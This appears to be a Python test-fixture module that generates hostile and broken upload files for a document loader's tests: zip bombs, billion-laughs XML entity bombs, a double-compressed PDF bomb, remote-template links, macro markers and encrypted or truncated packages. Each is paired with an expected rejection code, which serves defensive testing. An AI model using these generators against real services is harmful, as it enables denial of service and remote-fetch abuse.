"""Hostile files, each made here: what a careless or a malicious sender could upload."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.loaders.formats import office_files as office
from tests.loaders.formats.made_documents import made_document
from tests.loaders.formats.printers import as_docx, as_pdf, as_xlsx

SECTOR = 512
FREE, CHAIN_END, FAT_SECTOR = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="{}" TargetMode="External"/></Relationships>'
)


def compound(streams: Mapping[str, bytes]) -> bytes:
    """A compound file (MS-CFB) of the streams, each at least 4,096 bytes long."""
    sectors: list[bytes] = []
    fat: list[int] = []

    def add(data: bytes) -> int:
        first, count = len(sectors), (len(data) + SECTOR - 1) // SECTOR
        for number in range(count):
            sectors.append(data[number * SECTOR : (number + 1) * SECTOR].ljust(SECTOR, b"\0"))
            fat.append(first + number + 1 if number + 1 < count else CHAIN_END)
        return first

    starts = {name: add(data.ljust(4096, b"\0")) for name, data in streams.items()}
    entries = [_entry("Root Entry", 5, CHAIN_END, 0, child=1)]
    for number, (name, data) in enumerate(streams.items(), 1):
        following = number + 1 if number < len(streams) else FREE
        entries.append(_entry(name, 2, starts[name], max(len(data), 4096), right=following))
    directory = add(b"".join(entries))
    place = len(sectors)
    fat.append(FAT_SECTOR)
    sectors.append(b"".join(struct.pack("<I", value) for value in fat).ljust(SECTOR, b"\xff"))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
    header += b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, directory, 0, 4096, CHAIN_END, 0, CHAIN_END, 0)
    header += struct.pack("<I", place) + b"\xff" * 4 * 108
    return header + b"".join(sectors)


def _entry(name: str, kind: int, start: int, size: int, *, child: int = FREE, right: int = FREE) -> bytes:
    coded = name.encode("utf-16-le") + b"\0\0"
    return (
        coded.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(coded), kind, 1, FREE, right, child)
        + b"\0" * 36
        + struct.pack("<IQ", start, size)
    )


def zeros(name: str, size: int) -> bytes:
    """A package with a part of ``size`` blanks, which packs to almost nothing."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("word/styles.xml", "<x/>")
        with archive.open(name, "w", force_zip64=True) as part:
            for _ in range(size // (1 << 20)):
                part.write(b" " * (1 << 20))
    return buffer.getvalue()


def lying(data: bytes) -> bytes:
    """A package whose directory says that its largest part holds ten bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        size = max(part.file_size for part in archive.infolist())
    return data.replace(struct.pack("<I", size), struct.pack("<I", 10))


def locked_zip() -> bytes:
    """A package whose parts are marked as encrypted."""
    data = bytearray(office.docx(office.p("文")))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, encrypt=StandardEncryption("secret", strength=128))
    canvas.drawString(100, 700, "text")
    canvas.save()
    return buffer.getvalue()


def pdf_of(content: bytes, extra: bytes = b"") -> bytes:
    """A PDF of one page whose content stream is given with its dictionary entries."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n4 0 obj<<"
        + extra
        + b"/Length %d>>stream\n" % len(content)
        + content
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def pdf_bomb() -> bytes:
    """A page whose content is packed twice: 60 MB of blanks in a kilobyte or two."""
    packer = zlib.compressobj(9)
    inner = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(60)) + packer.flush()
    return pdf_of(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]")


def picture_pdf() -> bytes:
    """A page that shows an image and has no text."""
    drawn = b"q 500 0 0 700 50 50 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\xff\xff\x00 EI Q"
    return pdf_of(drawn)


def sheet_of_a_million() -> bytes:
    """A worksheet of a million short cells."""
    row = "".join(f'<c r="{chr(65 + n)}{{0}}"><v>1</v></c>' for n in range(20))
    body = "".join(f'<row r="{n}">{row.format(n)}</row>' for n in range(1, 50_001))
    return office.xlsx(f"<sheetData>{body}</sheetData>")


def half(data: bytes) -> bytes:
    """The first half of a file, as a broken download leaves it."""
    return data[: len(data) // 2]


def with_part(data: bytes, name: str, content: str | bytes) -> bytes:
    """A package with one more part."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _row_of_twenty(number: int) -> str:
    cells = "".join(
        f"<w:tc><w:p><w:r><w:t>{(number * 2654435761 + n * 40503) & 0xFFFFFF:x}</w:t></w:r></w:p></w:tc>"
        for n in range(20)
    )
    return f"<w:tr>{cells}</w:tr>"


MADE = made_document(1)

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "docx zip bomb": (lambda: zeros("word/document.xml", 100 << 20), "too-big"),
    "docx zip bomb below the limit of a part": (lambda: zeros("word/document.xml", 9 << 20), "too-big"),
    "docx whose directory lies": (lambda: lying(zeros("word/document.xml", 9 << 20)), "damaged"),
    "docx of 20,000 parts": (
        lambda: office.package({f"word/{n}.xml": "" for n in range(20_000)}),
        "too-big",
    ),
    "docx entity bomb": (lambda: office.docx(office.p("&a9;"), prolog=LAUGHS), "hostile"),
    "docx entity bomb in the styles": (
        lambda: with_part(office.docx(office.p("文")), "word/styles.xml", LAUGHS + "<x>&a9;</x>"),
        "hostile",
    ),
    "docx of a million cells": (
        lambda: office.docx(f"<w:tbl>{''.join(_row_of_twenty(n) for n in range(1000)) * 50}</w:tbl>"),
        "too-big",
    ),
    "docx of nested tables": (
        lambda: office.docx("<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000),
        "damaged",
    ),
    "docx with a span of a million": (
        lambda: office.docx(office.tbl(*[office.tr(office.tc("甲", span=900)) for _ in range(1000)])),
        "too-big",
    ),
    "docx with macros": (
        lambda: with_part(as_docx(MADE), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        "macros",
    ),
    "docx with a remote template": (
        lambda: with_part(
            as_docx(MADE), "word/_rels/settings.xml.rels", REMOTE.format("http://192.0.2.1/t.dotm")
        ),
        "remote",
    ),
    "docx truncated": (lambda: half(as_docx(MADE)), "damaged"),
    "docx locked part by part": (locked_zip, "encrypted"),
    "office file locked with a password": (
        lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}),
        "encrypted",
    ),
    "doc locked with a password": (
        lambda: compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 7 + b"\x01"}),
        "encrypted",
    ),
    "doc with macros": (
        lambda: compound({"WordDocument": b"\xec\xa5\xc1\0", "_VBA_PROJECT": b"x"}),
        "macros",
    ),
    "xlsx of a million cells": (sheet_of_a_million, "too-big"),
    "xlsx entity bomb": (
        lambda: with_part(as_xlsx(MADE), "xl/sharedStrings.xml", LAUGHS + "<sst><si><t>&a9;</t></si></sst>"),
        "hostile",
    ),
    "xlsx with macros": (lambda: with_part(as_xlsx(MADE), "xl/vbaProject.bin", b"x"), "macros"),
    "xlsx truncated": (lambda: half(as_xlsx(MADE)), "damaged"),
    "xlsx zip bomb": (lambda: zeros("xl/workbook.xml", 9 << 20), "too-big"),
    "html of a million cells": (
        lambda: b"<html><table>" + (b"<tr>" + b"<td>1" * 20) * 50_000 + b"</table>",
        "too-big",
    ),
    "html with giant spans": (
        lambda: b"<html><table>" + b"<tr><td colspan=1000 rowspan=65534>x" * 1000 + b"</table>",
        "too-big",
    ),
    "html nested a hundred thousand deep": (
        lambda: b"<html>" + b"<div>" * 100_000 + "文".encode() + b"</div>" * 100_000,
        "damaged",
    ),
    "csv of a million cells": (lambda: b"1,2,3,4,5,6,7,8,9,10\n" * 100_000, "too-big"),
    "text of half a million lines": (lambda: b"1\n" * 500_000, "too-big"),
    "text of 20 MB": (lambda: "任务。\n".encode() * 2_000_000, "too-big"),
    "pdf without text": (picture_pdf, "scanned"),
    "pdf of nothing": (lambda: pdf_of(b""), "empty"),
    "pdf whose page unpacks without end": (pdf_bomb, "too-big"),
    "pdf of two million texts": (
        lambda: pdf_of(zlib.compress(b"BT (abc) Tj ET\n" * 2_000_000), b"/Filter/FlateDecode"),
        "too-big",
    ),
    "pdf locked with a password": (locked_pdf, "encrypted"),
    "pdf truncated to its head": (lambda: as_pdf(MADE)[:200], "damaged"),
    "rtf with a remote template": (
        lambda: rb"{\rtf1{\*\template http://192.0.2.1/t.dot}" + b"text\\par}",
        "remote",
    ),
    "xml with entities": (
        lambda: (
            LAUGHS.encode()
            + b'<?mso-application progid="Word.Document"?><w:wordDocument '
            + b'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">&a9;</w:wordDocument>'
        ),
        "hostile",
    ),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "unknown-format"),
    "program": (lambda: b"MZ" + b"\x90\0" * 500, "unknown-format"),
    "empty": (lambda: b"", "empty"),
    "byte order mark only": (lambda: b"\xef\xbb\xbf\r\n", "empty"),
    "blanks only": (lambda: b" \r\n\t" * 100, "empty"),
}
"""What it is → how it is made, and the code of its refusal."""
